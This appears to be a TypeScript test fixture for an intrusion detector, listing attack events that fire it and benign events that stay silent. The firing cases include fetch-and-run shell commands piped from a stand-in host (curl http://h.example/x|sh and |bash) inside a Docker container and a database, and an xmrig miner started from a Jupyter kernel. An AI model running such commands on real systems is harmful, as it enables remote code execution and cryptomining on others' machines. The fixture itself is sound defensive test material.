import { acted, attempt, started } from '../../../tests/entry-story.ts';
import type { DetectorFixture } from '../../../tests/fixture.ts';

const docker = { exploit: 'docker-api', title: 'An open Docker API', service: 'docker' };

export const fixture: DetectorFixture = {
  fires: [
    {
      name: 'a container that fetches',
      seen: [
        attempt(0, docker),
        acted(1, {
          action: 'container-made',
          what: 'alpine',
          command: 'sh -c "curl http://h.example/x|sh"',
          carries: 'download',
        }),
      ],
      stage: 'mention',
    },
    {
      name: 'a pod of nobody that mines',
      seen: [acted(0, { action: 'pod-made', user: 'system:anonymous', from: '203.0.113.9', carries: 'miner' })],
      stage: 'capability',
    },
    {
      name: 'a database that fetches',
      seen: [acted(0, { action: 'database-program', command: 'curl http://h.example/x|bash', carries: 'download' })],
      stage: 'mention',
    },
    {
      name: 'a notebook from outside, and what its kernel started',
      seen: [
        attempt(0, { exploit: 'jupyter-open', title: 'An open Jupyter', service: 'jupyter' }),
        started(60, { why: ['child-of-service', 'fetches', 'mines'], service: 'jupyter', command: './xmrig' }),
      ],
      stage: 'capability',
    },
  ],
  silent: [
    { name: 'a container of every day', seen: [acted(0, { action: 'container-made', what: 'nginx' })] },
    {
      name: 'a pod that a build makes, which fetches',
      seen: [acted(0, { action: 'pod-made', user: 'ci', carries: 'download' })],
    },
    { name: 'a request that nothing followed', seen: [attempt(0, docker)] },
    {
      name: 'a hole, which is not a door',
      seen: [attempt(0), started(9, { why: ['child-of-service'], service: 'php' })],
    },
  ],
};
